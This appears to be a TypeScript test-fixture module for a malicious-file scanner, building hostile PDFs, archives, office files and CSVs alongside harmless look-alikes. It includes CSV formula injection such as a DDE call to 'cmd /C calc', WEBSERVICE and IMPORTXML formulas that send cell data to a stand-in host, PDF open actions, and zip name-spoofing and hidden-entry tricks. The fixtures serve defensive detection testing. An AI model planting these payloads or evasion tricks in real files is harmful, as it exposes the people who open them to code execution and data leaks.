import { crc32 } from 'node:zlib'
import { docxFile, type Parts, pdfFile, xlsxFile, zipFile } from '../../support/zip-file.ts'
import type { Clean } from './clean.ts'
import type { Hostile } from './hostile.ts'
import { packedOf, pdfOf, streamOf } from './pdf.ts'

/** The same kinds in other shapes: said elsewhere, by number, from afar, between the lines. */
const bytes = (text: string): Buffer => Buffer.from(text, 'latin1')
const join = (...parts: Uint8Array[]): Buffer => Buffer.concat(parts)
const exe = (): Buffer => join(bytes('MZ\x90\0\x03\0\0\0\x04'), Buffer.alloc(200))
const rar = (): Buffer => join(bytes('Rar!\x1a\x07\x01\0'), Buffer.alloc(100, 7))
const pdfWith = (object: string | Uint8Array): Uint8Array => pdfOf(['<< /Type /Pages >>', object])
const outside = (type: string, mode: string): Parts => ({
  'word/_rels/document.xml.rels': `<Relationships><Relationship Id="rId9" Type="a/${type}" Target="http://example.org" ${mode}/></Relationships>`,
})
const field = (text: string): Uint8Array =>
  docxFile({
    'word/document.xml': `<w:document><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${text}</w:instrText></w:r></w:document>`,
  })
const formula = (text: string): Uint8Array => xlsxFile({ 'xl/worksheets/sheet1.xml': `<c r="A1"><f>${text}</f></c>` })
const connection = (inner: string, more = ''): Uint8Array =>
  xlsxFile({ 'xl/connections.xml': `<connections><connection id="1" ${more}>${inner}</connection></connections>` })

/** The field in which an archive says a name once more, in UTF-8. */
export function nameAgain(raw: Uint8Array, name: string): Uint8Array {
  const again = Buffer.from(name)
  const head = Buffer.alloc(9)
  head.writeUInt16LE(0x7075, 0)
  head.writeUInt16LE(5 + again.length, 2)
  head[4] = 1
  head.writeUInt32LE(crc32(Buffer.from(raw)), 5)
  return Buffer.concat([head, again])
}

const URI = '<< /S /URI /URI (http://example.org) >>'
const SHARES: readonly [string, string][] = [
  ['hex', '/F <5c5c686f73745c73>'],
  ['wide hex', '/UF <feff005c005c0068>'],
  ['within', '/F << /Type /Filespec /UF (\\\\\\\\host\\\\share) >>'],
  ['slashes', '/F (//host/share)'],
  ['octal', '/F (\\134\\134host)'],
  ['address', '/F (http://example.org/a.pdf)'],
]

export const VARIATIONS: readonly Hostile[] = [
  // Of a PDF: what is done when it is opened, said in other places.
  ['page opened.pdf', () => pdfWith(`<< /Type /Page /AA << /O ${URI} >> >>`), 'file-active link'],
  ['opened elsewhere.pdf', () => pdfOf(['<< /OpenAction 3 0 R >>', URI]), 'file-active link'],
  ['opened packed.pdf', () => pdfOf(['<< /OpenAction 10 0 R >>', packedOf(URI)]), 'file-active link'],
  ['page elsewhere.pdf', () => pdfOf(['<< /Type /Page /AA << /O 3 0 R >> >>', URI]), 'file-active link'],
  ['opened far.pdf', () => pdfWith(`<< /OpenAction << ${' '.repeat(400)} /S /URI /URI (x) >> >>`), 'file-active link'],
  ...SHARES.map(
    ([name, file]): Hostile => [`share ${name}.pdf`, () => pdfWith(`<< /S /GoToR ${file} >>`), 'file-active link'],
  ),
  ['stream elsewhere.pdf', () => pdfWith(streamOf('/F << /FS /URL /F (http://a.b/c) >>', '')), 'file-active link'],
  ['script address.pdf', () => pdfWith('<< /S /URI /URI (javascript:app.alert) >>'), 'file-active link'],
  ['share address.pdf', () => pdfWith('<< /S /URI /URI (\\\\\\\\host\\\\share) >>'), 'file-active link'],
  ['rendition.pdf', () => pdfWith('<< /S /Rendition /JS (app.alert\\(1\\)) >>'), 'file-active script'],
  ['model.pdf', () => pdfWith('<< /Subtype /3D /3DD << /OnInstantiate 9 0 R >> >>'), 'file-active script'],
  [
    'file elsewhere.pdf',
    () => pdfOf(['<< /Type /Filespec /F (a.exe) /EF 3 0 R >>', '<< /F 4 0 R >>', streamOf('', exe())]),
    'file-active embedded',
  ],
  ['pinned file.pdf', () => pdfWith('<< /Subtype /FileAttachment /FS 9 0 R >>'), 'file-active embedded'],
  ['and rar.pdf', () => join(pdfFile(), rar()), 'file-mixed'],
  ['rar and.pdf', () => join(bytes('x\n'), rar(), pdfFile()), 'file-mixed'],
  ['and 7z.pdf', () => join(pdfFile(), bytes("7z\xbc\xaf'\x1c"), Buffer.alloc(50)), 'file-mixed'],
  // Of archives: what one reader unpacks and another does not see, and names that say two things.
  [
    'renamed.zip',
    () => zipFile([{ name: 'a.bat', bytes: bytes('calc'), more: nameAgain(bytes('a.bat'), 'a.txt') }]),
    'file-archive-unsafe',
  ],
  [
    'renamed too.zip',
    () => zipFile([{ name: 'a.wsc', bytes: bytes('calc'), more: nameAgain(bytes('a.wsc'), 'a.txt') }]),
    'file-archive-unsafe',
  ],
  [
    'beside.zip',
    () => zipFile([{ name: 'a.pdf' }, { name: 'run.bat:x.txt', bytes: bytes('calc') }]),
    'file-archive-entry',
  ],
  ['dot.zip', () => zipFile([{ name: 'a.bat.', bytes: bytes('calc') }]), 'file-archive-entry'],
  ['blank.zip', () => zipFile([{ name: 'a.bat ', bytes: bytes('calc') }]), 'file-archive-entry'],
  ...([0, 1, 2] as const).map(
    (place): Hostile => [
      `unlisted ${place}.zip`,
      () => {
        const entries = [{ name: 'a.pdf' }, { name: 'b.pdf' }]
        return zipFile(entries.toSpliced(place, 0, { name: 'c.exe', bytes: exe(), unlisted: true } as never))
      },
      'file-archive-unsafe',
    ],
  ),
  ['folder.zip', () => zipFile([{ name: 'a.pdf' }, { name: 'b.exe/', bytes: exe() }]), 'file-archive-unsafe'],
  // Of office files: what is fetched when they are opened.
  ['picture from afar.docx', () => field('INCLUDEPICTURE "http://example.org/a.png" \\d'), 'file-active link'],
  ['text from a share.docx', () => field('INCLUDETEXT "\\\\\\\\host\\\\share\\\\a.docx"'), 'file-active link'],
  ['switched.docx', () => field('INCLUDEPICTURE \\d "https://example.org/a.png"'), 'file-active link'],
  ['old import.docx', () => field('IMPORT http://example.org/a.png'), 'file-active link'],
  ['linked sheet.docx', () => field('LINK Excel.Sheet.8 "\\\\\\\\host\\\\a.xls" "S!A1" \\a'), 'file-active field'],
  ['database.docx', () => field('DATABASE \\d "C:\\\\a.mdb"'), 'file-active field'],
  ['blank mode.docx', () => docxFile(outside('image', 'TargetMode="External "')), 'file-active link'],
  ['service.xlsx', () => formula('_xlfn.WEBSERVICE(&quot;http://a.b/&quot;&amp;A1)'), 'file-active field'],
  ['server.xlsx', () => formula('IF(A1,RTD(&quot;a.b&quot;,,&quot;x&quot;),0)'), 'file-active field'],
  ['picture.xlsx', () => formula('_xlfn.IMAGE(&quot;https://a.b/&quot;&amp;A1)'), 'file-active field'],
  [
    'library.xlsx',
    () => xlsxFile({ 'xl/workbook.xml': '<workbook><definedName name="a">CALL("k","W","J")</definedName></workbook>' }),
    'file-active field',
  ],
  ['web query.xlsx', () => connection('<webPr url="http://example.org"/>'), 'file-active link'],
  ['database.xlsx', () => connection('<dbPr connection="x" command="y"/>', 'refreshOnLoad="1"'), 'file-active link'],
  [
    'add-in.docx',
    () =>
      docxFile({
        'word/webextensions/webextension1.xml': '<we:webextension><we:reference storeType="OMEX"/></we:webextension>',
      }),
    'file-active embedded',
  ],
  ...(['src', 'o:href'] as const).map(
    (name): Hostile => [
      `drawn ${name.replace(':', ' ')}.docx`,
      () =>
        docxFile({ 'word/document.xml': `<w:document><v:imagedata ${name}="http://example.org/a.png"/></w:document>` }),
      'file-active link',
    ],
  ),
  // Of tables as text.
  ['dde.csv', () => bytes('=DDE("cmd";"/C calc";"x")\n'), 'file-active field'],
  ['service.csv', () => bytes('a,"=WEBSERVICE(""http://a.b/""&A1)"\n'), 'file-active field'],
  ['import.csv', () => bytes('=IMPORTXML(CONCAT("http://a.b/",A1),"//a")\n'), 'file-active field'],
  ['link.csv', () => bytes('+HYPERLINK("http://a.b/?"&A1,"x")\n'), 'file-active field'],
  ['wide.csv', () => Buffer.from("＝cmd|' /C calc'!A0\n"), 'file-active field'],
  // What a search could be held up by.
  ['scripts.pdf', () => pdfOf(['/JS /'.repeat(2_000_000)]), 'file-active script'],
  ['calls.csv', () => bytes(' CALL('.repeat(1_000_000)), 'file-active field'],
]

const persian = Buffer.from([0xc7, 0xe1, 0xdd, 0x2e, 0x70, 0x64, 0x66])
/** What looks like one of them and is not. */
export const HARMLESS_VARIATIONS: readonly Clean[] = [
  [
    'opens at a page.pdf',
    () => pdfOf(['<< /OpenAction 3 0 R >>', '<< /S /GoTo /D [4 0 R /Fit] >>', URI]),
    'opens at a page.pdf',
  ],
  ['writes.pdf', () => pdfWith('<< /A << /S /URI /URI (mailto:a@example.org) >> >>'), 'writes.pdf'],
  ['file link.pdf', () => pdfWith('<< /A << /S /URI /URI (file:///C:/reports/a.pdf) >> >>'), 'file link.pdf'],
  ['next book.pdf', () => pdfWith('<< /A << /S /GoToR /F (chapter-2.pdf) >> >>'), 'next book.pdf'],
  [
    'said again.zip',
    () => zipFile([{ name: 'x.pdf', rawName: persian, more: nameAgain(persian, 'الف.pdf') }]),
    'said again.zip',
  ],
  ['colon.zip', () => zipFile([{ name: 'گزارش: خلاصه.pdf' }]), 'colon.zip'],
  [
    'streams.zip',
    () =>
      zipFile([
        { name: 'a.pdf', streamed: true },
        { name: 'b.pdf', streamed: true },
      ]),
    'streams.zip',
  ],
  ['link.docx', () => field('HYPERLINK "https://example.org" \\o "LINK x"'), 'link.docx'],
  ['own picture.docx', () => field('INCLUDEPICTURE "C:\\\\pictures\\\\a.png" \\* MERGEFORMAT'), 'own picture.docx'],
  ['link.xlsx', () => formula('HYPERLINK(&quot;https://example.org&quot;,&quot;x&quot;)'), 'link.xlsx'],
  ['own function.xlsx', () => formula('RECALL(A1)+SUM(A1:A9)'), 'own function.xlsx'],
  ['by hand.xlsx', () => connection('<dbPr connection="x" command="y"/>'), 'by hand.xlsx'],
  ['pivot.xlsx', () => xlsxFile({ 'xl/pivotCache/a.xml': '<pivotCacheDefinition refreshOnLoad="1"/>' }), 'pivot.xlsx'],
  ['sums.csv', () => bytes('a;=SUM(A1:A3);-5;+98 21\n'), 'sums.csv'],
  ['notes.txt', () => bytes('- call (021) 123\nregister(a) = exec(b)\n'), 'notes.txt'],
  ['openings.pdf', () => pdfOf(['/AA <<'.repeat(2_000_000)]), 'openings.pdf'],
  ['objects.pdf', () => pdfOf(['1 0 obj<<'.repeat(1_500_000)]), 'objects.pdf'],
  ['references.pdf', () => pdfOf([`/OpenAction ${'1 0 R '.repeat(1_500_000)}`]), 'references.pdf'],
  ['commas.csv', () => bytes(',=a'.repeat(3_000_000)), 'commas.csv'],
]
